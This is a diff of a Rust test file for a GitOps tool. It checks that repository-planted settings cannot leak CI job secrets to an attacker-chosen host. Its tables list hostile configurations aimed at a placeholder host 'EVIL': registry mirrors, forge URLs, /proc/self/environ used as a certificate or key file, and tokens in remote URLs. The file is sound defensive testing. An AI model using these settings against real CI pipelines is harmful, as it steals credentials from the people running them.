@@ -1,35 +1,51 @@
 //! A repository that wants the secrets of the job: no setting in it sends one to a host of its choice, with any command.
 
+use std::io::{Read as _, Write as _};
+use std::net::TcpListener;
+use std::sync::mpsc::{Receiver, channel};
+
+use base64::Engine as _;
+use base64::engine::general_purpose::STANDARD;
 use tagboat::config;
 
 use crate::support::http_double::{Double, ReceivedRequest, Reply};
+#[cfg(unix)]
+use crate::support::process::find;
 use crate::support::repository::Bare;
 use crate::support::repository::git;
 use crate::support::secret_leaks;
 use crate::support::tagboat::Tagboat;
 
-/// A secret of the job, as a variable and its value.
-type Planted = (&'static str, &'static str);
+/// Variables of the job, among them the secret.
+type Job = &'static [(&'static str, &'static str)];
 
-/// What the repository's `tagboat.yaml` sets, the image in its manifest, and the secret that it wants. `EVIL` is the host of the
-/// listener.
+/// What the repository's `tagboat.yaml` sets, the image in its manifest, the secret that it wants, and why `check` refuses the
+/// setting; if it does not, the listener receives requests. `EVIL` is the host of the listener.
+type Setting = (&'static str, &'static str, Job, &'static str);
+
 #[rustfmt::skip]
-const SETTINGS: &[(&str, &str, Planted)] = &[
-    // the setting                                                                                             image                     the secret
-    ("registries: { EVIL: { plain-http: true, username-env: AWS_ACCESS_KEY_ID, password-env: AWS_SECRET_ACCESS_KEY } }", "EVIL/x/y:1.0",  ("AWS_SECRET_ACCESS_KEY", "planted-secret-of-aws")),
-    ("registries: { EVIL: { plain-http: true, token-env: DEPLOY_TOKEN } }",                                    "EVIL/x/y:1.0",           ("DEPLOY_TOKEN", "planted-deploy-token")),
-    ("registries: { ghcr.io: { mirror: 'http://EVIL' } }",                                                     "ghcr.io/x/y:1.0",        ("GITHUB_TOKEN", "planted-token-of-github")),
-    ("registries: { docker.io: { mirror: 'http://EVIL/hub' } }",                                               "x/y:1.0",                ("TAGBOAT_REGISTRY_DOCKER_IO_TOKEN", "planted-token-of-the-hub")),
-    ("registries: { registry.invalid: { mirror: EVIL, plain-http: true } }",                                   "registry.invalid/x:1.0", ("CI_JOB_TOKEN", "planted-token-of-gitlab")),
-    ("registries: { 123456789012.dkr.ecr.eu-west-1.amazonaws.com: { mirror: 'http://EVIL' } }", "123456789012.dkr.ecr.eu-west-1.amazonaws.com/x:1.0", ("AWS_SECRET_ACCESS_KEY", "planted-secret-of-aws")),
-    ("registries: { registry.invalid: { auth-hosts: [EVIL] } }",                                               "EVIL/x/y:1.0",           ("TAGBOAT_REGISTRY_REGISTRY_INVALID_PASSWORD", "planted-password-of-a-registry")),
-    ("registries: { EVIL: { plain-http: true, client-cert-file: /proc/self/environ } }",                       "EVIL/x/y:1.0",           ("DEPLOY_TOKEN", "planted-deploy-token")),
-    ("registries: { EVIL: { ca-file: /proc/self/environ } }",                                                  "EVIL/x/y:1.0",           ("DEPLOY_TOKEN", "planted-deploy-token")),
-    ("forge: { kind: github, url: 'http://EVIL', repository: a/b }",                                           "EVIL/x/y:1.0",           ("TAGBOAT_FORGE_TOKEN", "planted-token-of-the-forge")),
-    ("forge: { kind: gitea, url: 'http://EVIL', repository: a/b }",                                            "EVIL/x/y:1.0",           ("FORGEJO_TOKEN", "planted-token-of-forgejo")),
-    ("forge: { kind: gitlab, url: 'http://EVIL', repository: a/b }",                                           "EVIL/x/y:1.0",           ("GITLAB_TOKEN", "planted-personal-token")),
-    ("forge: { kind: azure-devops, url: 'http://EVIL', repository: a/b/c }",                                   "EVIL/x/y:1.0",           ("SYSTEM_ACCESSTOKEN", "planted-token-of-azure")),
-    ("git: { sign: { format: ssh, key: /proc/self/environ } }",                                                "EVIL/x/y:1.0",           ("TAGBOAT_SIGNING_KEY", "planted-signing-key")),
+const SETTINGS: &[Setting] = &[
+    // the setting                                                                                             image                     the secret                                      refused because
+    ("registries: { EVIL: { plain-http: true, username-env: AWS_ACCESS_KEY_ID, password-env: AWS_SECRET_ACCESS_KEY } }", "EVIL/x/y:1.0",  &[("AWS_SECRET_ACCESS_KEY", "planted-secret-of-aws")], "`username-env` is not allowed"),
+    ("registries: { EVIL: { plain-http: true, token-env: DEPLOY_TOKEN } }",                                    "EVIL/x/y:1.0",           &[("DEPLOY_TOKEN", "planted-deploy-token")], "`token-env` is not allowed"),
+    ("registries: { ghcr.io: { mirror: 'http://EVIL' } }",                                                     "ghcr.io/x/y:1.0",        &[("GITHUB_TOKEN", "planted-token-of-github")], ""),
+    ("registries: { docker.io: { mirror: 'http://EVIL/hub' } }",                                               "x/y:1.0",                &[("TAGBOAT_REGISTRY_DOCKER_IO_TOKEN", "planted-token-of-the-hub")], ""),
+    ("registries: { registry.invalid: { mirror: EVIL, plain-http: true } }",                                   "registry.invalid/x:1.0", &[("CI_JOB_TOKEN", "planted-token-of-gitlab")], ""),
+    ("registries: { 123456789012.dkr.ecr.eu-west-1.amazonaws.com: { mirror: 'http://EVIL' } }", "123456789012.dkr.ecr.eu-west-1.amazonaws.com/x:1.0", &[("AWS_SECRET_ACCESS_KEY", "planted-secret-of-aws")], ""),
+    ("registries: { registry.invalid: { auth-hosts: [EVIL] } }",                                               "EVIL/x/y:1.0",           &[("TAGBOAT_REGISTRY_REGISTRY_INVALID_PASSWORD", "planted-password-of-a-registry")], "`auth-hosts` is not allowed"),
+    ("registries: { EVIL: { plain-http: true, client-cert-file: /proc/self/environ } }",                       "EVIL/x/y:1.0",           &[("DEPLOY_TOKEN", "planted-deploy-token")], "`client-cert-file` is not allowed"),
+    ("registries: { EVIL: { ca-file: /proc/self/environ } }",                                                  "EVIL/x/y:1.0",           &[("DEPLOY_TOKEN", "planted-deploy-token")], "leads out of the repository"),
+    ("forge: { kind: github, url: 'http://EVIL', repository: a/b }",                                           "EVIL/x/y:1.0",           &[("TAGBOAT_FORGE_TOKEN", "planted-token-of-the-forge")], "the token is not sent to 127.0.0.1"),
+    ("forge: { kind: gitea, url: 'http://EVIL', repository: a/b }",                                            "EVIL/x/y:1.0",           &[("FORGEJO_TOKEN", "planted-token-of-forgejo")], "the token is not sent to 127.0.0.1"),
+    ("forge: { kind: gitlab, url: 'http://EVIL', repository: a/b }",                                           "EVIL/x/y:1.0",           &[("GITLAB_TOKEN", "planted-personal-token")], "the token is not sent to 127.0.0.1"),
+    ("forge: { kind: azure-devops, url: 'http://EVIL', repository: a/b/c }",                                   "EVIL/x/y:1.0",           &[("SYSTEM_ACCESSTOKEN", "planted-token-of-azure")], "the token is not sent to 127.0.0.1"),
+    ("git: { sign: { format: ssh, key: /proc/self/environ } }",                                                "EVIL/x/y:1.0",           &[("TAGBOAT_SIGNING_KEY", "planted-signing-key")], "`sign` is not allowed"),
+    ("registries: { EVIL: { plain-http: true } }", "EVIL/x/y:1.0", &[("FORGEJO_ACTIONS", "true"), ("FORGEJO_SERVER_URL", "https://git.invalid"), ("FORGEJO_TOKEN", "planted-token-of-the-job")], ""),
+    ("registries: { git.invalid: { mirror: 'http://EVIL' } }", "git.invalid/x/y:1.0", &[("FORGEJO_ACTIONS", "true"), ("FORGEJO_SERVER_URL", "https://git.invalid"), ("FORGEJO_TOKEN", "planted-token-of-the-job")], ""),
+    ("registries: { ghcr.io: { mirror: 'http://EVIL' } }", "ghcr.io/x/y:1.0", &[("FORGEJO_ACTIONS", "true"), ("FORGEJO_SERVER_URL", "https://git.invalid"), ("FORGEJO_TOKEN", "planted-token-of-the-job")], ""),
+    ("forge: { kind: gitea, url: 'http://EVIL', repository: a/b }", "EVIL/x/y:1.0", &[("FORGEJO_ACTIONS", "true"), ("FORGEJO_SERVER_URL", "https://git.invalid"), ("FORGEJO_TOKEN", "planted-token-of-the-job")], "Gitea needs a token"),
+    ("registries: { EVIL: { plain-http: true } }", "EVIL/x/y:1.0", &[("GITEA_ACTIONS", "true"), ("GITHUB_SERVER_URL", "https://git.invalid"), ("GITEA_TOKEN", "planted-token-of-the-job")], ""),
+    ("registries: { git.invalid: { mirror: 'http://EVIL' } }", "git.invalid/x/y:1.0", &[("GITEA_ACTIONS", "true"), ("GITHUB_SERVER_URL", "https://git.invalid"), ("GITEA_TOKEN", "planted-token-of-the-job")], ""),
 ];
 
 const COMMANDS: &[&[&str]] = &[&["list"], &["plan"], &["edit"], &["explain", "y"], &["check"], &["run"]];
@@ -40,35 +56,72 @@ fn evil(request: &ReceivedRequest) -> Reply {
     Reply::new(401, "{}").header("www-authenticate", scheme)
 }
 
+/// Starts a proxy in place of all other hosts. It opens tunnels and answers in them without TLS, which no client tries again. The
+/// channel returns what each connection received.
+fn rest_of_the_world() -> (String, Receiver<Vec<u8>>) {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let url = format!("http://{}", listener.local_addr().unwrap());
+    let (sender, received) = channel();
+    std::thread::spawn(move || {
+        for mut stream in listener.incoming().flatten() {
+            let sender = sender.clone();
+            std::thread::spawn(move || {
+                let (mut bytes, mut part) = (Vec::new(), [0; 4096]);
+                for answer in ["HTTP/1.1 200 OK\r\n\r\n", "HTTP/1.1 400 Bad Request\r\n\r\n"] {
+                    let length = stream.read(&mut part).unwrap_or_default();
+                    bytes.extend_from_slice(&part[..length]);
+                    let _ = stream.write_all(answer.as_bytes());
+                }
+                let _ = sender.send(bytes);
+            });
+        }
+    });
+    (url, received)
+}
+
+/// Runs every command with one setting.
+fn check_setting((setting, image, job, refusal): Setting, listener: &Double) {
+    let filled = |text: &str| text.replace("EVIL", &listener.host());
+    let folder = tempfile::tempdir().unwrap();
+    let bare = Bare::new(folder.path(), "gitops");
+    let manifest = format!("kind: Pod\nspec:\n  containers:\n  - image: {}\n", filled(image));
+    bare.commit("main", &[(config::FILE_NAME, &filled(setting)), ("app.yaml", &manifest)], "Deploy");
+    git(folder.path(), &["clone", "--quiet", &bare.url(), "checkout"]);
+    let checkout = folder.path().join("checkout").display().to_string();
+    let mut secrets = secret_leaks::secrets(secret_leaks::VARIABLES.iter().chain(job).copied());
+    secrets.extend(job.iter().map(|(_, value)| (*value).to_owned()).filter(|value| value.starts_with("planted")));
+    assert!(job.iter().any(|(_, value)| secrets.contains(*value)), "{setting}: no secret in {job:?}");
+    let (proxy, tunnels) = rest_of_the_world();
+    let tagboat =
+        job.iter().fold(Tagboat::new().with("HTTPS_PROXY", &proxy), |all, (name, value)| all.with(name, value));
+    for command in COMMANDS {
+        let output = tagboat.run(&[*command, &["-C", &checkout]].concat());
+        let printed = format!("{}{}", output.stdout, output.log);
+        assert_eq!(secret_leaks::found(&secrets, printed.as_bytes()), [""; 0], "{setting}: {command:?} prints");
+        assert!(command[0] != "check" || printed.contains(refusal), "{setting}: {refusal} is not in {printed}");
+        for request in listener.received() {
+            let sent = format!("{} {} {:?} {}", request.method, request.target, request.headers, request.body);
+            assert_eq!(secret_leaks::found(&secrets, sent.as_bytes()), [""; 0], "{setting}: {command:?} sends {sent}");
+            assert_eq!(request.header("authorization"), None, "{setting}: {command:?} sends {sent}");
+        }
+        for sent in tunnels.try_iter() {
+            let shown = String::from_utf8_lossy(&sent).into_owned();
+            assert_eq!(secret_leaks::found(&secrets, &sent), [""; 0], "{setting}: {command:?} sends {shown}");
+        }
+    }
+    // That the listener receives no secret means something only if it receives requests.
+    assert_eq!(listener.received().is_empty(), !refusal.is_empty(), "{setting}: {:?}", listener.received());
+}
+
 #[tokio::test(flavor = "multi_thread")]
 async fn repository_sends_no_secret_to_a_host_of_its_choice() {
     assert!(SETTINGS.len() * COMMANDS.len() >= 60);
-    for (setting, image, (variable, secret)) in SETTINGS {
+    let mut checks = tokio::task::JoinSet::new();
+    for setting in SETTINGS {
         let listener = Double::start(evil).await;
-        let filled = |text: &str| text.replace("EVIL", &listener.host());
-        let folder = tempfile::tempdir().unwrap();
-        let bare = Bare::new(folder.path(), "gitops");
-        let manifest = format!("kind: Pod\nspec:\n  containers:\n  - image: {}\n", filled(image));
-        bare.commit("main", &[(config::FILE_NAME, &filled(setting)), ("app.yaml", &manifest)], "Deploy");
-        git(folder.path(), &["clone", "--quiet", &bare.url(), "checkout"]);
-        let checkout = folder.path().join("checkout").display().to_string();
-        let secrets = secret_leaks::secrets(secret_leaks::VARIABLES.iter().copied().chain([(*variable, *secret)]));
-        for command in COMMANDS {
-            // AWS itself receives no request: no test reaches anything but loopback.
-            let tagboat = Tagboat::new().with(variable, secret).with("HTTPS_PROXY", "http://127.0.0.1:9");
-            let output = tagboat.run(&[*command, &["-C", &checkout]].concat());
-            let printed = format!("{}{}", output.stdout, output.log);
-            assert_eq!(secret_leaks::found(&secrets, printed.as_bytes()), [""; 0], "{setting}: {command:?} prints");
-            for request in listener.received() {
-                let sent = format!("{} {} {:?} {}", request.method, request.target, request.headers, request.body);
-                assert_eq!(
-                    secret_leaks::found(&secrets, sent.as_bytes()),
-                    [""; 0],
-                    "{setting}: {command:?} sends {sent}"
-                );
-            }
-        }
+        checks.spawn_blocking(move || check_setting(*setting, &listener));
     }
+    checks.join_all().await;
 }
 
 /// The same settings work for the operator, so the rows above fail because of who sets them.
@@ -87,6 +140,107 @@ async fn operator_sends_a_credential_to_the_host_that_it_names() {
         "{:?}",
         listener.received()
     );
+}
+
+/// The token of a job is for the registry of the server that runs it.
+#[tokio::test(flavor = "multi_thread")]
+async fn token_of_a_job_goes_to_the_registry_of_its_server() {
+    for (marker, token) in [("FORGEJO_ACTIONS", "FORGEJO_TOKEN"), ("GITEA_ACTIONS", "GITEA_TOKEN")] {
+        let (server, other) = (Double::start(evil).await, Double::start(evil).await);
+        let folder = tempfile::tempdir().unwrap();
+        let bare = Bare::new(folder.path(), "gitops");
+        let images = [&server, &other].map(|host| format!("- image: {}/x/y:1.0\n", host.host())).concat();
+        bare.commit("main", &[("app.yaml", &format!("containers:\n{images}"))], "Deploy");
+        let plain = [&server, &other].map(|host| format!("  '{}': {{ plain-http: true }}\n", host.host())).concat();
+        let tagboat = Tagboat::new()
+            .with_config(&format!("registries:\n{plain}"))
+            .with(marker, "true")
+            .with("GITHUB_SERVER_URL", &format!("http://{}", server.host()))
+            .with("GITHUB_ACTOR", "octocat")
+            .with(token, "planted-token-of-the-job");
+        let output = tagboat.run(&["plan", "-C", &bare.url()]);
+        let sent = |double: &Double| {
+            double.received().iter().filter_map(|it| it.header("authorization").map(str::to_owned)).collect::<Vec<_>>()
+        };
+        // octocat:planted-token-of-the-job
+        assert!(
+            sent(&server).iter().all(|it| it == "Basic b2N0b2NhdDpwbGFudGVkLXRva2VuLW9mLXRoZS1qb2I="),
+            "{output:?}"
+        );
+        assert_eq!((sent(&server).is_empty(), sent(&other)), (false, vec![]), "{output:?}");
+    }
+}
+
+/// A token as the user name or in the query of the remote's URL is a secret like a password.
+#[cfg(unix)]
+#[tokio::test(flavor = "multi_thread")]
+async fn shows_no_secret_in_the_url_of_the_remote() {
+    use std::os::unix::fs::PermissionsExt as _;
+    let secrets = std::collections::BTreeSet::from(["planted-token-of-a-remote".to_owned()]);
+    let found = |text: &str| secret_leaks::found(&secrets, text.as_bytes());
+    #[rustfmt::skip]
+    let rows = [
+        // the URL of the remote                                                  is sent as the user, or refused because
+        ("http://planted-token-of-a-remote@EVIL/a/b.git",                         Ok("planted-token-of-a-remote:")),
+        ("http://me:planted-token-of-a-remote@EVIL/a/b.git",                      Ok("me:planted-token-of-a-remote")),
+        ("http://EVIL/a/b.git?private_token=planted-token-of-a-remote",           Err("'private_token' is a secret")),
+        ("http://EVIL/a/b.git?x=1&access_token=planted-token-of-a-remote",        Err("'access_token' is a secret")),
+        ("http://me@EVIL/a/b.git?token=planted-token-of-a-remote",                Err("'token' is a secret")),
+        ("http://me:x/planted-token-of-a-remote@EVIL/a/b.git",                    Err("invalid URL")),
+    ];
+    for (remote, expected) in rows {
+        let listener = Double::start(|_| Reply::new(401, "").header("www-authenticate", "Basic realm=git")).await;
+        let folder = tempfile::tempdir().unwrap();
+        let bare = Bare::new(folder.path(), "gitops");
+        bare.commit("main", &[("app.yaml", "kind: Pod\nspec:\n  containers:\n  - image: x/y:1.0\n")], "Deploy");
+        git(folder.path(), &["clone", "--quiet", &bare.url(), "checkout"]);
+        let (checkout, url) = (folder.path().join("checkout"), remote.replace("EVIL", &listener.host()));
+        git(&checkout, &["remote", "set-url", "origin", &url]);
+        let (tools, notes) = (folder.path().join("tools"), folder.path().join("notes"));
+        std::fs::create_dir(&tools).unwrap();
+        let real = find("git").unwrap();
+        let script = format!("#!/bin/sh\necho \"$*\" >> '{}'\nexec '{}' \"$@\"\n", notes.display(), real.display());
+        std::fs::write(tools.join("git"), script).unwrap();
+        std::fs::set_permissions(tools.join("git"), std::fs::Permissions::from_mode(0o755)).unwrap();
+        let path = format!("{}:{}", tools.display(), std::env::var("PATH").unwrap());
+        let (proxy, _tunnels) = rest_of_the_world();
+        let tagboat = Tagboat::new().with("PATH", &path).with("HTTPS_PROXY", &proxy);
+        let checkout = checkout.display().to_string();
+        let commands = COMMANDS.iter().map(|command| (*command, checkout.as_str()));
+        let on_url = [&["plan"][..], &["check"], &["run"]].into_iter().map(|command| (command, url.as_str()));
+        for (command, location) in commands.chain(on_url) {
+            let output = tagboat.run(&[command, &["-C", location]].concat());
+            let printed = format!("{}{}", output.stdout, output.log);
+            assert_eq!(found(&printed), [""; 0], "{remote}: {command:?} prints {printed}");
+            if let (Err(cause), ["check" | "run"]) = (expected, command) {
+                assert!(printed.contains(cause), "{remote}: {command:?}: {printed}");
+            }
+        }
+        let arguments = std::fs::read_to_string(&notes).unwrap();
+        assert_eq!(found(&arguments), [""; 0], "{remote}: {arguments}");
+        let mut sent: Vec<_> =
+            listener.received().iter().filter_map(|it| it.header("authorization").map(str::to_owned)).collect();
+        sent.dedup();
+        let login = expected.ok().map(|login| format!("Basic {}", STANDARD.encode(login)));
+        assert_eq!(sent, login.into_iter().collect::<Vec<_>>(), "{remote}");
+    }
+}
+
+#[test]
+fn refuses_a_credential_in_the_address_of_the_forge() {
+    let folder = tempfile::tempdir().unwrap();
+    let bare = Bare::new(folder.path(), "gitops");
+    bare.commit("main", &[("app.yaml", "kind: Pod\nspec:\n  containers:\n  - image: x/y:1.0\n")], "Deploy");
+    for url in [
+        "http://me:planted-token@127.0.0.1:9/",
+        "http://planted-token@127.0.0.1:9/",
+        "http://127.0.0.1:9/?token=planted-token",
+    ] {
+        let config = "forge: { kind: gitea, repository: a/b }\nrules: [{ policy: ignore }]\n";
+        let output = Tagboat::new().with_config(config).with("TAGBOAT_FORGE_URL", url).run(&["run", "-C", &bare.url()]);
+        assert!(output.code == 64 && output.stderr.contains("TAGBOAT_FORGE_URL has a user name"), "{output:?}");
+        assert!(!format!("{output:?}").contains("planted-token@") && !output.log.contains("=planted"), "{output:?}");
+    }
 }
 
 #[cfg(unix)]
